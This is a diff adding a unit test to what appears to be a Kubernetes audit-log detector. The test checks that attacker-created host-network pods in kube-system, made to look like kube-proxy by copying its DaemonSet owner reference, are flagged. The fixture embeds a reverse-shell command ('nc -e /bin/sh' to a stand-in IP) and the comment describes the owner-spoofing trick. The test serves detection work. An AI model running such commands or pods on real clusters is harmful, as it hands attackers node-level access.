@@ -885,4 +885,45 @@ public sealed class BlindAttackChainCaseTests
             "secret-access medium 2024-05-01T20:00:00Z" + by + "list Secret */* | ",
         ], Audit(log));
     }
+
+    [Fact]
+    public void A_host_network_pod_a_user_created_from_a_copied_controller_pod_manifest_is_reported_whatever_owner_it_names()
+    {
+        // kubectl get pod kube-proxy-… -o yaml, edited and created again, keeps the DaemonSet's ownerReference: the owner's
+        // template was on the host network already, but the pod was created by the attacker, not by the DaemonSet's controller.
+        const string kubeProxy = """
+
+            ---
+            apiVersion: apps/v1
+            kind: DaemonSet
+            metadata: {name: kube-proxy, namespace: kube-system, uid: 1d0c4c1e-0001-4000-8000-0000000000a1}
+            spec:
+              selector: {matchLabels: {k8s-app: kube-proxy}}
+              template:
+                metadata: {labels: {k8s-app: kube-proxy}}
+                spec: {hostNetwork: true, containers: [{name: kube-proxy, image: registry.k8s.io/kube-proxy:v1.30.2}]}
+            """;
+        static string Pod(string name, string owner, string user, string at, string agent, string[] groups) =>
+            Created(Event("create", "pods", "kube-system", name, user: user, groups: groups, at: at, userAgent: agent, code: 201,
+                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"{{{name}}}","namespace":"kube-system","labels":{"k8s-app":"kube-proxy"},"ownerReferences":[{{{owner}}}]},"spec":{"nodeName":"node-1","hostNetwork":true,"containers":[{"name":"kube-proxy","image":"registry.k8s.io/kube-proxy:v1.30.2","command":["/bin/sh","-c","nc -e /bin/sh 203.0.113.9 4444"]}]}}"""));
+        const string daemonSet = """{"apiVersion":"apps/v1","kind":"DaemonSet","name":"kube-proxy","uid":"1d0c4c1e-0001-4000-8000-0000000000a1","controller":true,"blockOwnerDeletion":true}""";
+        const string node = """{"apiVersion":"v1","kind":"Node","name":"node-1","uid":"n1","controller":true}""";
+        string[] attacker = ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"];
+        string[] log =
+        [
+            Pod("kube-proxy-x9z8y", daemonSet, Attacker, "21:00", Kubectl, attacker),
+            Pod("kube-proxy-q2w3e", daemonSet, "system:serviceaccount:kube-system:daemon-set-controller", "21:01",
+                "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:daemon-set-controller",
+                ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]),
+            Pod("kube-proxy-node-1", node, "system:node:node-1", "21:02", "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350", ["system:nodes", "system:authenticated"]),
+            Pod("etcd-node-1", node, Attacker, "21:03", Kubectl, attacker),
+        ];
+        const string user = " " + Attacker + " ";
+        Assert.Equal(
+        [
+            "events 4",
+            "host-network-pod high 2024-05-01T21:00:00Z" + user + "create Pod kube-system/kube-proxy-x9z8y | ",
+            "host-network-pod high 2024-05-01T21:03:00Z" + user + "create Pod kube-system/etcd-node-1 | ",
+        ], Audit(Cluster + kubeProxy, log));
+    }
 }
